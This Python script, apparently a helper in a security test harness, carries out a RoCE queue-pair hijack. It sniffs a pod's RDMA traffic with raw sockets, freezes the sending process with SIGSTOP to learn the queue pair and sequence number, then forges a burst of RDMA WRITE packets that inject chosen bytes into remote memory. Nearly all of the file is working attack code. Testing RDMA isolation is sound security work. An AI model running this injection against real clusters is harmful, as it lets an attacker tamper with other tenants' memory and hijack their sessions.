"""Forge a WRITE on a live queue pair, with raw sockets: to be run behind ``roce.py``, in a pod.

``sniff PROGRAM SOURCE DESTINATION``: stop PROGRAM of this pod's, and print the queue pair and the last
sequence number of what it has sent there. ``write SOURCE DESTINATION ADDRESS KEY TEXT QPN PSN``: send
WRITEs with this sequence number and those behind it, and print how many.
"""
# ruff: noqa: F821 # what roce.py has

import os
import signal
import socket
import struct
import sys
from pathlib import Path

SILENT_S = 1.0
BEHIND = 80  # more than a READ of 65536 bytes takes
SOURCE_PORT = 0xD000


def sniff(program, source, destination):
    """Print what is learnt from packets of this pod's own."""
    ends = socket.inet_aton(source) + socket.inet_aton(destination)
    found = None
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3)) as link:
        link.bind(("eth0", 0))
        link.settimeout(60)
        while True:
            try:
                frame = link.recv(256)
            except TimeoutError:
                break
            if len(frame) < 54 or frame[23] != socket.IPPROTO_UDP or frame[26:34] != ends:
                continue
            if frame[36:38] != struct.pack("!H", PORT) or frame[42] > READ_REQUEST:
                continue
            if found is None:
                stop(program)
                link.settimeout(SILENT_S)
            found = [number & 0xFFFFFF for number in struct.unpack_from("!II", frame, 46)]
    assert found is not None, "nothing was sent"
    print(*found)


def stop(program):
    """Let a program do nothing more."""
    for process in Path("/proc").glob("[0-9]*"):
        if (process / "comm").read_text().strip() == program:
            os.kill(int(process.name), signal.SIGSTOP)


def write(source, destination, address, key, text, qpn, psn):
    """Send what the HCA would send, if it were let."""
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as raw:
        for behind in range(BEHIND):
            payload = text.encode()
            headers = reth(int(address, 0), int(key, 0), len(payload))
            number = (int(psn) + behind) % PSNS
            packet = Packet(WRITE_ONLY, int(qpn), number, headers, payload)
            data = packet.sealed(source, destination, SOURCE_PORT)
            ends = socket.inet_aton(source), socket.inet_aton(destination)
            length = 20 + 8 + len(data)
            ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, length, 0, 0x4000, 64, 17, 0, *ends)
            udp = struct.pack("!HHHH", SOURCE_PORT, PORT, 8 + len(data), 0)
            raw.sendto(ip + udp + data, (destination, 0))
    print(BEHIND)


if __name__ == "__main__":
    {"sniff": sniff, "write": write}[sys.argv[1]](*sys.argv[2:])
